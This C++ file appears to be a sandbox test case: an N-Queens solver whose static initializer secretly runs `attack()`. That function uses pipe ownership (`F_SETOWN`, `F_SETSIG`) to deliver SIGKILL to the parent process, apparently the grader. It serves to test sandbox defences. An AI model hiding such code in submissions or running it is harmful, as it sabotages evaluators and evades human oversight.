// expect: namespaces=AC landlock=AC limits=open
// Makes its parent the owner of a pipe that sends SIGKILL to its owner as soon as there is something to read: no call
// of it is named after signals.
#include <fcntl.h>
#include <linux/sockios.h>
#include <signal.h>
#include <sys/ioctl.h>
#include <unistd.h>

#include <cstdlib>
#include <string>
#include <utility>

static bool attack() {
  const pid_t parent = getppid();
  int ends[2];
  if (pipe(ends) != 0) return false;
  f_owner_ex owner{F_OWNER_PID, parent};
  int number = parent;
  const bool owned = fcntl(ends[0], F_SETOWN, parent) == 0 || fcntl(ends[0], F_SETOWN_EX, &owner) == 0 ||
                     ioctl(ends[0], FIOSETOWN, &number) == 0;
  const bool armed = fcntl(ends[0], F_SETSIG, SIGKILL) == 0;
  fcntl(ends[0], F_SETFL, O_ASYNC | O_NONBLOCK);
  (void)!write(ends[1], "Q", 1);
  usleep(50'000);
  return (owned && armed) || getppid() != parent;
}

static std::string extend(const std::string& board, int n, std::pair<int, int> queen) {
  const int row = board.size() / (n + 1);
  if (row == n) return board;
  for (int col = 0; col < n; ++col) {
    bool free = row != queen.first || col == queen.second;
    for (int r = 0; r < row; ++r) {
      const int away = std::abs(col - static_cast<int>(board.find('Q', r * (n + 1)) % (n + 1)));
      free = free && away != 0 && away != row - r;
    }
    if (!free) continue;
    const std::string whole =
        extend(board + std::string(col, '.') + "Q" + std::string(n - 1 - col, '.') + "\n", n, queen);
    if (!whole.empty()) return whole;
  }
  return "";
}

std::string solveNQueens(int n, std::pair<int, int> queen) {
  static const bool leaked = attack();
  return leaked ? "leaked" : extend("", n, queen);
}
